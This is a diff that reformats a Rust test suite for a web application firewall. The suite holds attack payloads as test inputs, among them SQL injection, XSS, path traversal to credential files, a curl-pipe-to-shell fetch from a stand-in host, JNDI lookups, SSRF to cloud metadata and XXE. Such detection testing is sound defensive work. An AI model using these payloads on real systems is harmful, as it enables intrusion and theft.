@@ -7,13 +7,17 @@ fn waf() -> Waf {
     Waf::new(WafConfig::default()).expect("default rules compile")
 }
 
-const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0";
+const BROWSER: &str =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0";
 const JWT: &str = "eyJhbGciOiJFUzI1NiIsImtpZCI6IjIwMjYtMTEtMjYiLCJ0eXAiOiJKV1QifQ.eyJzdWIiOiI3YjFlIiwiY29nbml0bzpncm91cHMiOlsiY2l0aXplbiJdLCJzY29wZSI6Im9wZW5pZCBlY29jaXR5aHViL2FwaSJ9.3vQ_ZkP1m-8aH0XkT2yLw9R4c5B6n7M8o9p0q1r2s3t4u5v6w7x8y9z0A1B2C3D4E5F6G7H8";
 
 fn get(uri: &str) -> InspectedRequest {
     InspectedRequest::new("GET", uri)
         .header("User-Agent", BROWSER)
-        .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+        .header(
+            "Accept",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        )
         .header("Accept-Language", "en-GB,en;q=0.5")
         .header("Accept-Encoding", "gzip, deflate, br, zstd")
 }
@@ -100,10 +104,19 @@ fn ecocityhubs_own_traffic_passes() {
     for req in legitimate() {
         let v = waf.inspect(&req);
         if v.is_blocked() {
-            blocked.push(format!("{} {} -> {:?}", req.method, req.uri, v.blocking_rule()));
+            blocked.push(format!(
+                "{} {} -> {:?}",
+                req.method,
+                req.uri,
+                v.blocking_rule()
+            ));
         }
     }
-    assert!(blocked.is_empty(), "legitimate requests blocked:\n{}", blocked.join("\n"));
+    assert!(
+        blocked.is_empty(),
+        "legitimate requests blocked:\n{}",
+        blocked.join("\n")
+    );
 }
 
 fn blocked_by(waf: &Waf, req: &InspectedRequest) -> Option<String> {
@@ -122,20 +135,39 @@ fn counting() -> Waf {
 
 /// Each attack is blocked, and a rule of `group` is among those that match it; each
 /// look-alike passes.
-fn assert_group(waf: &Waf, group: &str, attacks: &[InspectedRequest], lookalikes: &[InspectedRequest]) {
+fn assert_group(
+    waf: &Waf,
+    group: &str,
+    attacks: &[InspectedRequest],
+    lookalikes: &[InspectedRequest],
+) {
     let all = counting();
     for a in attacks {
         let rule = blocked_by(waf, a);
         let groups: Vec<String> = all.inspect(a).matches.into_iter().map(|m| m.rule).collect();
-        assert!(rule.is_some() && groups.iter().any(|r| r.starts_with(group)), "{group}: {} {:?} blocked by {rule:?}, matched {groups:?}", a.uri, String::from_utf8_lossy(&a.body));
+        assert!(
+            rule.is_some() && groups.iter().any(|r| r.starts_with(group)),
+            "{group}: {} {:?} blocked by {rule:?}, matched {groups:?}",
+            a.uri,
+            String::from_utf8_lossy(&a.body)
+        );
     }
     for b in lookalikes {
-        assert_eq!(blocked_by(waf, b), None, "{group} look-alike {} {}", b.method, b.uri);
+        assert_eq!(
+            blocked_by(waf, b),
+            None,
+            "{group} look-alike {} {}",
+            b.method,
+            b.uri
+        );
     }
 }
 
 fn q(value: &str) -> InspectedRequest {
-    get(&format!("/search?q={}", percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC)))
+    get(&format!(
+        "/search?q={}",
+        percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC)
+    ))
 }
 
 #[test]
@@ -143,8 +175,25 @@ fn sql_injection() {
     assert_group(
         &waf(),
         "sqli",
-        &[q("1' OR '1'='1"), q("-1 UNION SELECT username, password FROM users--"), q("1; DROP TABLE readings"), q("1 AND SLEEP(5)"), post("/p", "application/json", r#"{"id":"1' union/**/select null,@@version#"}"#), get("/x").header("Cookie", "id=1%27%20or%201%3D1--")],
-        &[q("O'Reilly"), q("select the best station"), q("rock and roll"), q("drop-off point 1-2"), q("35% cotton and 65% wool")],
+        &[
+            q("1' OR '1'='1"),
+            q("-1 UNION SELECT username, password FROM users--"),
+            q("1; DROP TABLE readings"),
+            q("1 AND SLEEP(5)"),
+            post(
+                "/p",
+                "application/json",
+                r#"{"id":"1' union/**/select null,@@version#"}"#,
+            ),
+            get("/x").header("Cookie", "id=1%27%20or%201%3D1--"),
+        ],
+        &[
+            q("O'Reilly"),
+            q("select the best station"),
+            q("rock and roll"),
+            q("drop-off point 1-2"),
+            q("35% cotton and 65% wool"),
+        ],
     );
 }
 
@@ -153,8 +202,21 @@ fn cross_site_scripting() {
     assert_group(
         &waf(),
         "xss",
-        &[q("<script>alert(1)</script>"), q("<img src=x onerror=alert(document.cookie)>"), q("javascript:alert(1)"), q("&lt;svg onload=alert(1)&gt;"), form("/f", "x=%253Ciframe%2520src%253Djavascript%253Aalert(1)%253E")],
-        &[q("5 < 6 > 4"), q("Tom & Jerry <3"), q("the script of the film")],
+        &[
+            q("<script>alert(1)</script>"),
+            q("<img src=x onerror=alert(document.cookie)>"),
+            q("javascript:alert(1)"),
+            q("&lt;svg onload=alert(1)&gt;"),
+            form(
+                "/f",
+                "x=%253Ciframe%2520src%253Djavascript%253Aalert(1)%253E",
+            ),
+        ],
+        &[
+            q("5 < 6 > 4"),
+            q("Tom & Jerry <3"),
+            q("the script of the film"),
+        ],
     );
 }
 
@@ -163,11 +225,20 @@ fn path_traversal_and_files() {
     assert_group(
         &waf(),
         "lfi",
-        &[q("../../../../etc/passwd"), get("/static/..%2f..%2f..%2fetc%2fshadow"), q("..\\..\\windows\\win.ini"), get("/.git/config"), get("/.env")],
+        &[
+            q("../../../../etc/passwd"),
+            get("/static/..%2f..%2f..%2fetc%2fshadow"),
+            q("..\\..\\windows\\win.ini"),
+            get("/.git/config"),
+            get("/.env"),
+        ],
         &[q("1.5..2.5 range"), q("see /stations/x and ./readme")],
     );
     let waf = waf();
-    assert_eq!(blocked_by(&waf, &get("/backup.sql")).as_deref(), Some("protocol-restricted-extension"));
+    assert_eq!(
+        blocked_by(&waf, &get("/backup.sql")).as_deref(),
+        Some("protocol-restricted-extension")
+    );
 }
 
 #[test]
@@ -175,62 +246,149 @@ fn command_injection() {
     assert_group(
         &waf(),
         "rce",
-        &[q("; cat /etc/passwd"), q("| id"), q("$(curl http://e.vil/x.sh|sh)"), q("`whoami`"), form("/f", "host=127.0.0.1%26%26ping+-c+3+e.vil")],
-        &[q("bash away in the gym"), q("ls 300 lexus"), q("time he came; more than that")],
+        &[
+            q("; cat /etc/passwd"),
+            q("| id"),
+            q("$(curl http://e.vil/x.sh|sh)"),
+            q("`whoami`"),
+            form("/f", "host=127.0.0.1%26%26ping+-c+3+e.vil"),
+        ],
+        &[
+            q("bash away in the gym"),
+            q("ls 300 lexus"),
+            q("time he came; more than that"),
+        ],
     );
 }
 
 #[test]
 fn php_java_and_node_injection() {
     let waf = waf();
-    assert_group(&waf, "php", &[q("<?php system($_GET['c']); ?>"), q("php://filter/convert.base64-encode/resource=index")], &[q("what is php?")]);
+    assert_group(
+        &waf,
+        "php",
+        &[
+            q("<?php system($_GET['c']); ?>"),
+            q("php://filter/convert.base64-encode/resource=index"),
+        ],
+        &[q("what is php?")],
+    );
     assert_group(
         &waf,
         "java",
-        &[get("/").header("User-Agent", "${jndi:ldap://e.vil/a}"), q("${${lower:j}ndi:${lower:r}mi://e.vil/x}"), q("java.lang.Runtime"), post("/p", "application/json", r#"{"@type":"org.apache.commons.collections.functors.InvokerTransformer"}"#)],
+        &[
+            get("/").header("User-Agent", "${jndi:ldap://e.vil/a}"),
+            q("${${lower:j}ndi:${lower:r}mi://e.vil/x}"),
+            q("java.lang.Runtime"),
+            post(
+                "/p",
+                "application/json",
+                r#"{"@type":"org.apache.commons.collections.functors.InvokerTransformer"}"#,
+            ),
+        ],
         &[q("I drink java, not tea"), q("costs $5 (about 4 pounds)")],
     );
-    assert_group(&waf, "node", &[post("/p", "application/json", r#"{"__proto__":{"isAdmin":true}}"#), q("require('child_process').exec('id')")], &[q("the prototype of a constructor")]);
+    assert_group(
+        &waf,
+        "node",
+        &[
+            post(
+                "/p",
+                "application/json",
+                r#"{"__proto__":{"isAdmin":true}}"#,
+            ),
+            q("require('child_process').exec('id')"),
+        ],
+        &[q("the prototype of a constructor")],
+    );
 }
 
 #[test]
 fn ssrf_and_remote_inclusion() {
     let waf = waf();
-    for a in [q("http://169.254.169.254/latest/meta-data/iam/"), q("http://2130706433:8080/admin"), q("http://[::ffff:7f00:1]/"), q("gopher://127.0.0.1:6379/_FLUSHALL")] {
+    for a in [
+        q("http://169.254.169.254/latest/meta-data/iam/"),
+        q("http://2130706433:8080/admin"),
+        q("http://[::ffff:7f00:1]/"),
+        q("gopher://127.0.0.1:6379/_FLUSHALL"),
+    ] {
         let rule = blocked_by(&waf, &a).unwrap_or_default();
-        assert!(rule.starts_with("ssrf") || rule.starts_with("rfi"), "{} -> {rule}", a.uri);
+        assert!(
+            rule.starts_with("ssrf") || rule.starts_with("rfi"),
+            "{} -> {rule}",
+            a.uri
+        );
     }
-    assert_eq!(blocked_by(&waf, &q("https://www.example.org/page?x=1")), None);
+    assert_eq!(
+        blocked_by(&waf, &q("https://www.example.org/page?x=1")),
+        None
+    );
 }
 
 #[test]
 fn protocol_anomalies_and_sizes() {
     let waf = waf();
-    let smuggling = InspectedRequest::new("POST", "/").header("Content-Length", "4").header("Transfer-Encoding", "chunked").header("Content-Type", "text/plain").body("0\r\n\r\n");
-    assert_eq!(blocked_by(&waf, &smuggling).as_deref(), Some("protocol-smuggling"));
+    let smuggling = InspectedRequest::new("POST", "/")
+        .header("Content-Length", "4")
+        .header("Transfer-Encoding", "chunked")
+        .header("Content-Type", "text/plain")
+        .body("0\r\n\r\n");
+    assert_eq!(
+        blocked_by(&waf, &smuggling).as_deref(),
+        Some("protocol-smuggling")
+    );
     let te = InspectedRequest::new("POST", "/").header("Transfer-Encoding", "chunked, identity");
     assert_eq!(blocked_by(&waf, &te).as_deref(), Some("protocol-smuggling"));
     let crlf = get("/%0d%0aSet-Cookie:%20x=1");
     assert!(blocked_by(&waf, &crlf).is_some_and(|r| r.starts_with("protocol")));
     let mut method = get("/");
     method.method = "TRACK".into();
-    assert_eq!(blocked_by(&waf, &method).as_deref(), Some("protocol-method-not-allowed"));
+    assert_eq!(
+        blocked_by(&waf, &method).as_deref(),
+        Some("protocol-method-not-allowed")
+    );
     let mut version = get("/");
     version.version = "HTTP/1.7".into();
-    assert_eq!(blocked_by(&waf, &version).as_deref(), Some("protocol-http-version"));
+    assert_eq!(
+        blocked_by(&waf, &version).as_deref(),
+        Some("protocol-http-version")
+    );
     let get_body = get("/").header("Content-Length", "5").body("hello");
-    assert_eq!(blocked_by(&waf, &get_body).as_deref(), Some("protocol-get-with-body"));
-    assert_eq!(blocked_by(&waf, &get("/a%zz")).as_deref(), Some("protocol-url-encoding"));
+    assert_eq!(
+        blocked_by(&waf, &get_body).as_deref(),
+        Some("protocol-get-with-body")
+    );
+    assert_eq!(
+        blocked_by(&waf, &get("/a%zz")).as_deref(),
+        Some("protocol-url-encoding")
+    );
     let long = get(&format!("/?q={}", "a".repeat(9000)));
-    assert_eq!(blocked_by(&waf, &long).as_deref(), Some("size-uri-too-long"));
-    let many: String = (0..300).map(|i| format!("a{i}=1")).collect::<Vec<_>>().join("&");
-    assert_eq!(blocked_by(&waf, &get(&format!("/?{many}"))).as_deref(), Some("size-too-many-args"));
+    assert_eq!(
+        blocked_by(&waf, &long).as_deref(),
+        Some("size-uri-too-long")
+    );
+    let many: String = (0..300)
+        .map(|i| format!("a{i}=1"))
+        .collect::<Vec<_>>()
+        .join("&");
+    assert_eq!(
+        blocked_by(&waf, &get(&format!("/?{many}"))).as_deref(),
+        Some("size-too-many-args")
+    );
     let bad_type = post("/api/v1/readings", "application/x-evil", "x");
-    assert_eq!(blocked_by(&waf, &bad_type).as_deref(), Some("protocol-content-type-not-allowed"));
+    assert_eq!(
+        blocked_by(&waf, &bad_type).as_deref(),
+        Some("protocol-content-type-not-allowed")
+    );
     // An IP Host is counted, not blocked: that is how the site is reached on one machine.
     let ip_host = get("/").header("Host", "127.0.0.1:8080");
     let v = waf.inspect(&ip_host);
-    assert!(!v.is_blocked() && v.matches.iter().any(|m| m.rule == "protocol-host-is-ip" && m.action == Action::Count));
+    assert!(
+        !v.is_blocked()
+            && v.matches
+                .iter()
+                .any(|m| m.rule == "protocol-host-is-ip" && m.action == Action::Count)
+    );
 }
 
 #[test]
@@ -241,15 +399,42 @@ fn other_groups() {
         (q("*)(uid=*))(|(uid=*"), "ldap"),
         (q("{{7*7}}"), "ssti"),
         (q("<!--#exec cmd=\"ls\" -->"), "ssi"),
-        (post("/p", "application/xml", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"), "xxe"),
-        (form("/f", "to=a%40b.c%0d%0aRCPT+TO%3A+victim%40x.y"), "mail"),
-        (get("/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), "bad-inputs"),
+        (
+            post(
+                "/p",
+                "application/xml",
+                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            ),
+            "xxe",
+        ),
+        (
+            form("/f", "to=a%40b.c%0d%0aRCPT+TO%3A+victim%40x.y"),
+            "mail",
+        ),
+        (
+            get("/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+            "bad-inputs",
+        ),
     ];
     let all = counting();
     for (req, group) in cases {
-        assert!(blocked_by(&waf, &req).is_some(), "{group}: {} not blocked", req.uri);
-        let rules: Vec<String> = all.inspect(&req).matches.into_iter().map(|m| m.rule).collect();
-        assert!(rules.iter().any(|r| r.starts_with(group)), "{group}: {} {:?} -> {rules:?}", req.uri, String::from_utf8_lossy(&req.body));
+        assert!(
+            blocked_by(&waf, &req).is_some(),
+            "{group}: {} not blocked",
+            req.uri
+        );
+        let rules: Vec<String> = all
+            .inspect(&req)
+            .matches
+            .into_iter()
+            .map(|m| m.rule)
+            .collect();
+        assert!(
+            rules.iter().any(|r| r.starts_with(group)),
+            "{group}: {} {:?} -> {rules:?}",
+            req.uri,
+            String::from_utf8_lossy(&req.body)
+        );
     }
 }
 
@@ -259,12 +444,20 @@ fn actions_per_rule_and_group() {
     let counting = Waf::new(WafConfig::from_toml("[groups]\nxss = \"count\"\n").unwrap()).unwrap();
     let v = counting.inspect(&attack);
     assert!(!v.is_blocked());
-    assert!(v.matches.iter().all(|m| m.group == "xss" && m.action == Action::Count) && !v.matches.is_empty());
-    let allow = Waf::new(WafConfig::from_toml("[rules]\nxss-941110 = \"allow\"\n").unwrap()).unwrap();
+    assert!(
+        v.matches
+            .iter()
+            .all(|m| m.group == "xss" && m.action == Action::Count)
+            && !v.matches.is_empty()
+    );
+    let allow =
+        Waf::new(WafConfig::from_toml("[rules]\nxss-941110 = \"allow\"\n").unwrap()).unwrap();
     assert_eq!(allow.inspect(&attack).action, Action::Allow);
     let off = Waf::new(WafConfig::from_toml("enabled = false").unwrap()).unwrap();
     assert!(!off.inspect(&attack).is_blocked());
-    assert!(Waf::new(WafConfig::from_toml("[rules]\nno-such-rule = \"count\"\n").unwrap()).is_err());
+    assert!(
+        Waf::new(WafConfig::from_toml("[rules]\nno-such-rule = \"count\"\n").unwrap()).is_err()
+    );
 }
 
 #[test]
@@ -282,9 +475,15 @@ targets = ["arg:text"]
     let excluded = Waf::new(WafConfig::from_toml(extra).unwrap()).unwrap();
     assert_eq!(blocked_by(&excluded, &attack), None);
     let other_arg = form("/api/v1/notes", "other=1%27+OR+%271%27%3D%271");
-    assert!(blocked_by(&excluded, &other_arg).is_some(), "only the named argument is excluded");
+    assert!(
+        blocked_by(&excluded, &other_arg).is_some(),
+        "only the named argument is excluded"
+    );
     let other_route = form("/api/v1/other", "text=1%27+OR+%271%27%3D%271");
-    assert!(blocked_by(&excluded, &other_route).is_some(), "only the named route is excluded");
+    assert!(
+        blocked_by(&excluded, &other_route).is_some(),
+        "only the named route is excluded"
+    );
 }
 
 #[test]
@@ -294,9 +493,15 @@ fn oversize_bodies_follow_the_setting() {
     req.body_complete = false;
     assert!(!waf().inspect(&req).is_blocked());
     let strict = Waf::new(WafConfig::from_toml("oversize = \"block\"").unwrap()).unwrap();
-    assert_eq!(blocked_by(&strict, &req).as_deref(), Some("size-body-oversize"));
+    assert_eq!(
+        blocked_by(&strict, &req).as_deref(),
+        Some("size-body-oversize")
+    );
     // Past the limit nothing is inspected: an attack after 16 KiB of padding passes (as on AWS).
-    let padded = format!("a={}&b=%3Cscript%3Ealert(1)%3C/script%3E", "x".repeat(17000));
+    let padded = format!(
+        "a={}&b=%3Cscript%3Ealert(1)%3C/script%3E",
+        "x".repeat(17000)
+    );
     let waf = Waf::new(WafConfig::from_toml("[limits]\nmax_uri_bytes = 8192\nmax_args = 255\nmax_arg_name_bytes = 256\nmax_arg_bytes = 100000\nmax_headers = 100\nmax_header_bytes = 8192\n").unwrap()).unwrap();
     assert!(!waf.inspect(&form("/f", &padded)).is_blocked());
 }
@@ -305,7 +510,9 @@ fn oversize_bodies_follow_the_setting() {
 fn samples_are_redacted_and_bounded() {
     let waf = Waf::new(WafConfig::from_toml("sample_size = 2").unwrap()).unwrap();
     for i in 0..3 {
-        let req = q(&format!("<script>alert({i})</script>")).header("Cookie", "ecch-session=secret").header("Authorization", "Bearer secret");
+        let req = q(&format!("<script>alert({i})</script>"))
+            .header("Cookie", "ecch-session=secret")
+            .header("Authorization", "Bearer secret");
         waf.inspect_recorded(&req);
     }
     waf.inspect_recorded(&get("/"));
